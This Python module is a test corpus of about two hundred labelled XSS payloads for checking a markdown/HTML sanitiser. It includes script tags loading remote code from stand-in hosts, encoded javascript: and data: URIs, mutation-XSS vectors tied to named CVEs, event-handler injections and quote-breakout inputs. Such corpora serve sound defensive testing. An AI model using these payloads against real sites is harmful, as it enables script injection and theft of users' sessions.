"""A corpus of XSS vectors for every test of user text: the markup pipeline's structural
checks and the browser suite that posts them through every surface.

(readable id, payload). Sources: classic <script> variants, javascript:/vbscript:/data:
URL tricks, markdown-specific links and images, mXSS (namespace confusion, raw-text
elements, comments), OWASP's XSS filter evasion cheat sheet and bleach's own regression
tests and advisories (CVE-2020-6802, CVE-2020-6816, CVE-2021-23980).
"""

from __future__ import annotations

_SVG_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
_HTML_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
_JS_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
_JS_DECIMAL_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
_JS_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")

CORPUS: list[tuple[str, str]] = [
    # Classic <script> variants.
    ("script-plain", "<script>alert(1)</script>"),
    ("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-src-remote", '<script src="https://evil.example/x.js"></script>'),
    ("script-slash-attr", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    ("script-slash-src", '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    ("script-double-open", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    ("script-unclosed-src", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >"),
    ("script-protocol-relative-src", "<SCRIPT SRC=//xss.rocks/.j>"),
    ("script-split-by-script", "<scri<script>pt>alert(1)</scr</script>ipt>"),
    ("script-after-title", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("script-in-blockquote", "> <script>alert(1)</script>"),
    ("script-in-list", "- <script>alert(1)</script>\n- item"),
    ("script-in-heading", "# <script>alert(1)</script>"),
    (
        "script-defer-in-unknown-ns",
        (
            '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
            '<?import namespace="t" implementation="#default#time2">'
            '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)'
            '</SCRIPT>"></BODY></HTML>'
        ),
    ),
    # javascript: links, raw HTML.
    ("js-href-plain", '<a href="javascript:alert(1)">x</a>'),
    ("js-href-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("js-href-colon-decimal", '<a href="javascript&#58;alert(1)">x</a>'),
    ("js-href-colon-decimal-no-semicolon", '<a href="javascript&#58alert(1)">x</a>'),
    ("js-href-colon-hex", '<a href="javascript&#x3a;alert(1)">x</a>'),
    ("js-href-colon-named", '<a href="javascript&colon;alert(1)">x</a>'),
    ("js-href-first-letter-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("js-href-tab-in-scheme", '<a href="java\tscript:alert(1)">x</a>'),
    ("js-href-tab-entity-in-scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("js-href-newline-entity-in-scheme", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("js-href-cr-entity-in-scheme", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("js-href-newline-in-scheme", '<a href="java\nscript:alert(1)">x</a>'),
    ("js-href-nul-in-scheme", '<a href="java\x00script:alert(1)">x</a>'),
    ("js-href-vertical-tab-in-scheme", '<a href="java\x0bscript:alert(1)">x</a>'),
    ("js-href-leading-control-char", '<a href="&#14;  javascript:alert(1)">x</a>'),
    ("js-href-leading-space", '<a href="   javascript:alert(1)">x</a>'),
    ("js-href-zero-width-space", '<a href="\u200bjavascript:alert(1)">x</a>'),
    ("js-href-percent-encoded", '<a href="%6A%61vascript%3Aalert(1)">x</a>'),
    ("js-href-all-decimal-entities", f'<a href="{_JS_DECIMAL}">x</a>'),
    ("js-href-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("js-href-duplicate-attribute", '<a href="javascript:alert(1)" href="/safe">x</a>'),
    ("js-href-with-onmouseover-text", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    # javascript: links, markdown.
    ("md-link-js", "[x](javascript:alert(1))"),
    ("md-link-js-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-js-colon-decimal", "[x](javascript&#58;alert(1))"),
    ("md-link-js-colon-hex", "[x](javascript&#x3a;alert(1))"),
    ("md-link-js-colon-named", "[x](javascript&colon;alert(1))"),
    ("md-link-js-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("md-link-js-leading-space", "[x]( javascript:alert(1))"),
    ("md-link-js-tab-in-scheme", "[x](java\tscript:alert(1))"),
    ("md-link-js-percent-colon", "[x](javascript%3Aalert(1))"),
    ("md-link-js-with-title", '[x](javascript:alert(1) "title")'),
    ("md-link-js-around-image", "[![a](/x.png)](javascript:alert(1))"),
    ("md-link-js-in-list", "- [x](javascript:alert(1))"),
    ("md-reference-link-js", "[x][ref]\n\n[ref]: javascript:alert(1)"),
    ("md-reference-link-js-upper-titled", '[x][ref]\n\n[ref]: JAVASCRIPT:alert(1) "t"'),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-js-upper", "<JAVASCRIPT:alert(1)>"),
    # vbscript: and data: URIs.
    ("vbscript-href", '<a href="vbscript:msgbox(1)">x</a>'),
    ("md-link-vbscript", "[x](VBScript:msgbox(1))"),
    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("data-href-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("md-link-data-html-base64", f"[x](data:text/html;base64,{_HTML_B64})"),
    ("md-link-data-svg", f"[x](data:image/svg+xml;base64,{_SVG_B64})"),
    ("md-image-data-svg", f"![x](data:image/svg+xml;base64,{_SVG_B64})"),
    ("md-image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("img-data-html", '<img src="data:text/html;base64,' + _HTML_B64 + '">'),
    ("md-autolink-data", f"<data:text/html;base64,{_HTML_B64}>"),
    # bleach's linkifier knows only real TLDs, hence .com rather than .example here.
    ("linkify-data-scheme", "data:evil.com/html,hello"),
    ("linkify-other-schemes", "ssh://evil.com and callto:evil.com or feed:evil.com"),
    (
        "meta-refresh-data",
        (
            '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
            'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'
        ),
    ),
    # Images: scheme tricks and attribute injection.
    ("img-onerror-raw", "<img src=x onerror=alert(1)>"),
    ("img-onerror-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("img-js-src", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img-js-src-unquoted-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img-js-src-backticks", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    ("img-js-src-decimal-entities", f"<IMG SRC={_JS_DECIMAL}>"),
    ("img-js-src-padded-decimal-entities", f"<IMG SRC={_JS_DECIMAL_PADDED}>"),
    ("img-js-src-hex-entities", f"<IMG SRC={_JS_HEX}>"),
    ("img-js-src-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("img-js-src-comment-split", "<IMG SRC=\"javas<!-- -->cript:alert('XSS')\">"),
    ("img-onerror-entity-payload", f'<img src=x onerror="{_JS_DECIMAL_PADDED}">'),
    ("img-empty-src-onmouseover", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    ("img-hash-src-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("img-quote-soup", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    ("img-dynsrc-lowsrc", '<IMG DYNSRC="javascript:alert(1)" LOWSRC="javascript:alert(1)">'),
    ("img-srcset-remote", '<img src="/x.png" srcset="https://evil.example/x.png 1x">'),
    ("img-remote-https", '<img src="https://evil.example/track.png">'),
    ("img-protocol-relative", '<img src="//evil.example/track.png">'),
    ("img-protocol-relative-leading-space", '<img src=" //evil.example/track.png">'),
    ("img-backslash-host", '<img src="/\\evil.example/track.png">'),
    ("img-encoded-slash-host", '<img src="/&#47;evil.example/track.png">'),
    ("img-tab-entity-in-scheme", '<img src="http&#9;://evil.example/track.png">'),
    ("img-entity-first-letter", '<img src="&#104;ttp://evil.example/track.png">'),
    ("img-encoded-backslash-host", '<img src="/&#92;evil.example/track.png">'),
    ("img-leading-control-entity", '<img src="&#1;//evil.example/track.png">'),
    ("img-leading-control-raw", '<img src="\x01//evil.example/track.png">'),
    ("img-newline-entity-in-slashes", '<img src="/&#10;/evil.example/track.png">'),
    ("md-image-js", "![x](javascript:alert(1))"),
    ("md-image-remote", "![x](https://evil.example/track.png)"),
    ("md-image-protocol-relative", "![x](//evil.example/track.png)"),
    ("md-image-encoded-slash-host", "![x](/&#47;evil.example/track.png)"),
    ("md-image-encoded-colon", "![x](http&#58;//evil.example/track.png)"),
    ("md-image-title-onerror", '![a](/x.png "onerror=alert(1) x")'),
    ("md-image-title-quote-breakout", '![a](/x.png "\\" onerror=\\"alert(1)")'),
    ("md-image-title-single-quote-breakout", "![a](/x.png 'x\\' onerror=\\'alert(1)')"),
    ("md-image-alt-quote-breakout", '![a" onerror="alert(1)](/x.png)'),
    ("md-image-src-quote-breakout", '![a](/x.png"onerror="alert(1))'),
    ("md-link-title-quote-breakout", '[a](/x "\\" onmouseover=\\"alert(1)")'),
    ("md-reference-image-js", "![a][img]\n\n[img]: javascript:alert(1)"),
    # Dangerous tags.
    ("svg-onload", "<svg/onload=alert('XSS')>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg-xlink-js",
        ('<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ),
    ("math-href-js", '<math href="javascript:alert(1)">CLICKME</math>'),
    ("math-xlink-js", '<math><a xlink:href="javascript:alert(1)">x</a></math>'),
    ("style-import", "<style>@import 'javascript:alert(1)';</style>"),
    (
        "style-list-image",
        ("<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
    ),
    ("iframe-js", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-unclosed", "<iframe src=http://xss.rocks/scriptlet.html <"),
    ("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    ("object-data", '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/x.html"></OBJECT>'),
    (
        "embed-svg-data",
        (
            f'<EMBED SRC="data:image/svg+xml;base64,{_SVG_B64}" type="image/svg+xml" '
            'AllowScriptAccess="always"></EMBED>'
        ),
    ),
    ("form-action-js", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction-js", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-image-js", '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
    ("base-href", '<base href="//evil.example/">'),
    ("meta-refresh-js", ('<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">')),
    ("link-stylesheet-js", '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
    ("body-onload", "<BODY ONLOAD=alert('XSS')>"),
    ("body-onload-junk-name", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    ("body-background-js", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    ("bgsound-js", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
    ("table-background-js", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD>x</TD></TABLE>"),
    ("td-background-js", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>"),
    (
        "xml-island",
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    ),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)></textarea>"),
    ("title-img", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp-img", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("plaintext-img", "<plaintext><img src=x onerror=alert(1)>"),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("xml-pi-script", '<?xml version="1.0"?><script>alert(1)</script>'),
    # Mutation XSS.
    ("mxss-svg-p-style", "<svg><p><style><img src=x onerror=alert(1)>"),
    ("mxss-math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "mxss-math-mglyph-comment",
        (
            "<math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        ),
    ),
    (
        "mxss-form-math-svg",
        (
            '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
            '<img onerror=alert(1) src>">'
        ),
    ),
    ("mxss-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-noscript-style", "<noscript><style></noscript><img src=x onerror=alert(1)>"),
    ("mxss-math-style-cve-2020-6816", "<math><style><img src=x onerror=alert(1)></style></math>"),
    (
        "mxss-svg-style-cve-2021-23980",
        ('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ),
    ("mxss-select-style", "<select><style></select><img src=x onerror=alert(1)>"),
    ("comment-short-close", "<!--><img src=x onerror=alert(1)-->"),
    ("comment-in-title", '<a href="x" title="--><script>alert(1)</script>">x</a>'),
    ("comment-in-img-src", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("comment-bang-close", "<!-- x --!><img src=x onerror=alert(1)>"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    # Escaped tags that must stay text.
    ("escaped-named-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("escaped-numeric-entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("escaped-javascript-unicode", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("fullwidth-angle-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("markdown-backslash-escaped", "\\<script>alert(1)\\</script>"),
    ("double-encoded-img", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    # Event attributes and style on allowed tags.
    ("a-onclick", '<a href="/x" onclick="alert(1)">x</a>'),
    ("a-onclick-uppercase", '<a href="/x" ONCLICK=alert(1)>x</a>'),
    ("p-onmouseover", '<p onmouseover="alert(1)">x</p>'),
    ("div-onclick", "<div onclick=alert(1)>x</div>"),
    ("strong-slash-onmouseover", "<strong/onmouseover=alert(1)>x</strong>"),
    ("p-onmouseover-newline", "<p onmouseover\n=alert(1)>x</p>"),
    ("strong-inside-markdown", "**<img src=x onerror=alert(1)>**"),
    ("table-cell-img-onerror", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    ("style-expression", '<p style="width: expression(alert(1))">x</p>'),
    ("style-url-js", '<span style="background:url(javascript:alert(1))">x</span>'),
    ("style-div-background-js", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
    ("style-behavior", '<div style="behavior: url(x.htc)">x</div>'),
    ("style-on-img", '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))" src="/x.png">'),
    # Class spoofing of the site's own CSS.
    ("class-span-btn", '<span class="btn">Log in</span>'),
    ("class-span-nav", '<span class="nav">x</span>'),
    ("class-span-token-plus-site", '<span class="k btn">x</span>'),
    ("class-div-site", '<div class="modal-backdrop">x</div>'),
    ("class-div-highlight-plus-site", '<div class="highlight admin-only">x</div>'),
    ("class-code-language-plus-site", '<code class="language-x btn">x</code>'),
    ("class-p-alert", '<p class="alert alert-danger">x</p>'),
    # Code must be shown, never run.
    ("fenced-code-script", "```\n<script>alert(1)</script>\n```"),
    (
        "fenced-code-html-script",
        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    ),
    ("fenced-code-language-injection", '```" onmouseover="alert(1)\nx\n```'),
    ("fenced-code-language-scheme", "```javascript:alert(1)\nx\n```"),
    ("indented-code-script", "    <script>alert(1)</script>"),
    ("inline-code-script", "`<script>alert(1)</script>`"),
    ("code-tag-wrapping-link", '<code><a href="https://spam.example" rel="me">x</a></code>'),
    ("pre-wrapping-link", '<pre><a href="javascript:alert(1)">x</a></pre>'),
    # Links: rel, target and linkify edge cases.
    ("a-rel-opener", '<a href="https://evil.example" rel="opener">x</a>'),
    ("a-target-blank", '<a href="https://evil.example" target="_blank">x</a>'),
    ("a-no-href", '<a name="x" id="y">x</a>'),
    ("a-protocol-relative", '<A HREF="//www.google.com/">XSS</A>'),
    ("linkify-js-then-domain", "javascript:alert(1)//example.com"),
    ("linkify-quote-breakout", 'http://example.com/"onclick="alert(1)'),
    ("linkify-then-script", "www.example.com<script>alert(1)</script>"),
    ("linkify-email-quote-breakout", 'foo@example.com"onmouseover="alert(1)'),
    ("linkify-email-script-local-part", '"<script>alert(1)</script>"@example.com'),
    ("linkify-unicode-line-separator", "javascript\u2028:alert(1) http://example.com"),
]
